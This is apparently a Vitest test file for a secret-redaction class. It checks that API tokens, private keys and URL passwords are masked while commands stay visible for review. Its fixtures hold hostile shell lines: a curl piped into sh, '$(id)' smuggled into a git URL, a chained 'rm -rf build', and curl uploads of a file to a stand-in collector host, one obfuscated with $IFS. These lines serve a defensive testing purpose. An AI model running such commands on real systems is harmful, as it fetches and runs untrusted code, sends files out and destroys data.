import { describe, expect, it } from 'vitest'
import { Redactor } from './index.ts'

const redactor = new Redactor({ DEPLOY_TOKEN: 'hush-hush-hush' }, { OTHER_SECRET: 'quiet-quiet' })

const secretTexts = [
  'hush-hush-hush',
  `ghp_${'a'.repeat(30)}`,
  `sk-${'a'.repeat(20)}`,
  '12345678:AAabcdefghijklmnopqrstuvwxyzabcdefgh',
  '-----BEGIN PRIVATE KEY-----\nabc',
  'Bearer abcdefghij',
  'Api_Key = hunter2222',
  '-u me:hunter22',
  'postgres://me:hunter22@host/x',
]

describe('text for review', () => {
  it('has no known secrets, and nothing that can only be a key', () => {
    const key = `ghp_${'a'.repeat(30)}`
    const command = {
      argv: ['curl', '-H', 'Authorization: Bearer abcdefghij', `x/hush-hush-hush/${key}/quiet-quiet`],
    }
    expect(redactor.redactValueForReview(command)).toEqual({
      argv: ['curl', '-H', 'Authorization: Bearer [redacted]', 'x/[redacted]/[redacted]/[redacted]'],
    })
  })

  it.each([
    'password=$(curl<x|sh)',
    'git clone https://me:$(id)@host/x',
    ': -----BEGIN PRIVATE KEY-----; rm -rf build',
    'curl -H "Authorization: Bearer $(cat notes)"',
    'echo bearer\n./deploy-everything',
    'curl -A bearer collector.example.com/upload -d @notes',
    'curl https://sk-aaaaaaaaaaaaaaaaaaaa.com/',
    'curl https://xoxb-1111111111.example/',
  ])('shows every command in %s', (line) => {
    expect(redactor.redactTextForReview(line)).toBe(line)
  })

  it.each([
    'rm -rf build',
    'collector.example.com',
    'collector.example.com/Upload1/aaaaaaaa',
    '192.168.100.7',
    '--upload-file=notes',
    '../../elsewhere',
    'curl$IFS-T$IFS.notes',
  ])('is shown to have %s in it, though a variable that is called like a secret is that too', (value) => {
    const chosen = new Redactor({}, { MY_TOKEN: value })
    chosen.addSecrets([value])
    expect(chosen.redactTextForReview(`run ${value} now`)).toBe(`run ${value} now`)
    expect(chosen.redactEnvironmentForReview({ MY_TOKEN: value })).toEqual({ MY_TOKEN: value })
    expect(chosen.redactText(`run ${value} now`)).toBe('run [redacted] now')
  })

  it.each([
    'correct-horse-battery',
    'p@ss#w0rd!',
    'SG.aBcDeFgH1.iJkLmN0pQ_r',
    'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  ])('does not have the secret %s of its variables', (value) => {
    const chosen = new Redactor({}, { MY_TOKEN: value })
    expect(chosen.redactTextForReview(`run ${value} now`)).toBe('run [redacted] now')
    expect(chosen.redactEnvironmentForReview({ MY_TOKEN: value })).toEqual({ MY_TOKEN: '[redacted]' })
  })

  it('is redacted in linear time', () => {
    const line = `${'sk-'.repeat(300_000)}.com`
    expect(redactor.redactTextForReview(line)).toBe(line)
  })

  it('has the names of secret variables, and their values only if they are paths', () => {
    const variables = {
      API_KEY: 'short',
      LESSKEY: './keys',
      NAME: 'a hush-hush-hush b',
      SSH_AUTH_SOCK: '/run/agent',
    }
    expect(redactor.redactEnvironmentForReview(variables)).toEqual({
      API_KEY: '[redacted]',
      LESSKEY: './keys',
      NAME: 'a [redacted] b',
      SSH_AUTH_SOCK: '/run/agent',
    })
  })

  it('has no password of a URL', () => {
    const address = 'postgres://me:correct-horse@db.example.com/base'
    const redacted = 'postgres://me:[redacted]@db.example.com/base'
    expect(redactor.redactTextForReview(`psql ${address}`)).toBe(`psql ${redacted}`)
    expect(redactor.redactEnvironmentForReview({ BASE_DSN: address })).toEqual({ BASE_DSN: redacted })
  })
})

it('has only the names of secret variables outside of a review', () => {
  const variables = { BASE_DSN: 'postgres://db.example.com', PASSWORD: 'two words', NAME: 'value' }
  expect(redactor.redactEnvironment(variables)).toEqual({
    BASE_DSN: '[redacted]',
    PASSWORD: '[redacted]',
    NAME: 'value',
  })
})

describe('stored and shown text', () => {
  const body = 'abcdefghijABCDEFGHIJ0123456789abcdefghijABCDEFGHIJ0123456789'
  it.each([
    ['OpenAI', `sk-${body.slice(0, 20)}`],
    ['GitHub', `ghp_${body.slice(0, 36)}`],
    ['GitHub, fine-grained', `github_pat_${body}`],
    ['GitLab', `glpat-${body.slice(0, 20)}`],
    ['a GitLab agent', `glagent-${body.slice(0, 20)}`],
    ['a GitLab feature flag', `glffct-${body.slice(0, 20)}`],
    ['npm', `npm_${body.slice(0, 36)}`],
    ['PyPI', `pypi-${body}`],
    ['RubyGems', `rubygems_${'0a'.repeat(24)}`],
    ['Hugging Face', `hf_${body.slice(0, 34)}`],
    ['Replicate', `r8_${body.slice(0, 37)}`],
    ['Groq', `gsk_${body.slice(0, 52)}`],
    ['Stripe', `sk_live_${body.slice(0, 24)}`],
    ['Stripe, restricted', `rk_test_${body.slice(0, 24)}`],
    ['a Stripe webhook', `whsec_${body.slice(0, 32)}`],
    ['Slack', `xapp-1-${body.slice(0, 20)}`],
    ['a Slack bot', `xoxb-${body.slice(0, 20)}`],
    ['AWS', `ASIA${'A1B2'.repeat(4)}`],
    ['an AWS user', `AKIA${'A1B2'.repeat(4)}`],
    ['an AWS session', `IQoJb3JpZ2lu${body}`],
    ['an older AWS session', `FwoGZXIvYXdz${body}`],
    ['Google', `ya29.${body}`],
    ['a Google API', `AIza${body.slice(0, 35)}`],
    ['a Google client', `GOCSPX-${body.slice(0, 28)}`],
    ['Azure', `AccountKey=${body}==`],
    ['Azure, shared', `SharedAccessKey=${body}=`],
    ['an Azure client', `abc8Q~${body.slice(0, 34)}`],
    ['DigitalOcean', `dop_v1_${'0a'.repeat(32)}`],
    ['Vault', `hvs.${body}`],
    ['Terraform', `${body.slice(0, 14)}.atlasv1.${body}`],
    ['Fly', `fo1_${body.slice(0, 40)}`],
    ['a Fly macaroon', `fm2_${body.slice(0, 40)}`],
    ['SendGrid', `SG.${body.slice(0, 22)}.${body.slice(0, 43)}`],
    ['Telegram', `123456789:AA${body.slice(0, 33)}`],
    ['a JWT', `eyJ${body.slice(0, 20)}.${body.slice(0, 20)}.${body.slice(0, 20)}`],
    ['age', `AGE-SECRET-KEY-1${'A1B2C'.repeat(11)}`],
  ])('has no key of %s in it', (_issuer, key) => {
    expect(redactor.redactText(`before ${key} after`)).toBe('before [redacted] after')
  })

  it('has no secret after a word that announces it', () => {
    expect(redactor.redactText('https://hooks.slack.com/services/T0/B0/abcdefghijABCDEF')).toBe(
      'https://hooks.slack.com/services/[redacted]',
    )
    expect(redactor.redactText('BEARER abcdefghij')).toBe('BEARER [redacted]')
    expect(redactor.redactText('Api_Key = hunter2222')).toBe('Api_Key = [redacted]')
    expect(redactor.redactText('curl --proxy-user=me:hunter22 x')).toBe('curl --proxy-user=me:[redacted] x')
    expect(redactor.redactText('-----BEGIN PRIVATE KEY-----\nabc')).toBe('[redacted]')
  })

  it('is formatted as JSON without secrets', () => {
    const json = redactor.toJson({ list: ['a hush-hush-hush b', 1], none: undefined, empty: null })
    expect(json).toBe('{"list":["a [redacted] b",1],"empty":null}')
  })

  it.each(secretTexts)('is redacted among other strings of a value: %s', (text) => {
    const around = ['before', text, 'after-', ':']
    expect(redactor.redactValue({ around, inner: { text } })).toEqual({
      around: ['before', redactor.redactText(text), 'after-', ':'],
      inner: { text: redactor.redactText(text) },
    })
    expect(redactor.redactText(text)).not.toBe(text)
  })

  it('is the same value if it has no secrets', () => {
    const value = { list: ['a', '-', 'sk', { token: 'x' }], number: 1, none: null }
    expect(redactor.redactValue(value)).toBe(value)
  })

  it('has no password of a user, but keeps numeric ids', () => {
    expect(redactor.redactText('curl -u me:hunter22 x')).toBe('curl -u me:[redacted] x')
    expect(redactor.redactText('Authorization: Basic bWU6aHVudGVyMjI=')).toBe(
      'Authorization: Basic [redacted]',
    )
    expect(redactor.redactText('docker run -u 1000:1000 x')).toBe('docker run -u 1000:1000 x')
    const key = '-----BEGIN PGP PRIVATE KEY BLOCK-----\nabc\n-----END PGP PRIVATE KEY BLOCK-----'
    expect(redactor.redactText(`a ${key} b`)).toBe('a [redacted] b')
  })
})
